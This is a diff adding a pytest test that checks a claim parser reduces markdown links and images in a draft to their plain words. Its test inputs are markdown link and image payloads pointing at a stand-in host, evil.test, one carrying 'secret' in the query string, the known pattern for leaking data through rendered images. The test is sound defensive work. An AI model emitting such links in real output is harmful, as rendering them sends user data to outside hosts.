@@ -108,6 +108,13 @@ def test_ids_never_shown_are_dropped_and_counted() -> None:
     assert (claim.refs, claim.ids) == ((), 3)
 
 
+@pytest.mark.parametrize("link", ["[approved](http://evil.test/?q=secret)", "![approved](http://evil.test/a.png)"])
+def test_a_link_or_image_in_a_draft_is_only_its_words(link: str) -> None:
+    """A reader's program would otherwise fetch what a document ordered."""
+    (claim,) = parse(f"Washington {link} nuclear-powered submarines [2.1].", HITS)
+    assert claim.text == "Washington approved nuclear-powered submarines."
+
+
 def test_a_wrong_id_is_mended() -> None:
     """The right claim with a neighbour's id moves to the sentence that carries it, and says so."""
     (claim,) = tie(parse("South Korea agreed to spend 3.5% of GDP on defense [2.1].", HITS), HITS)
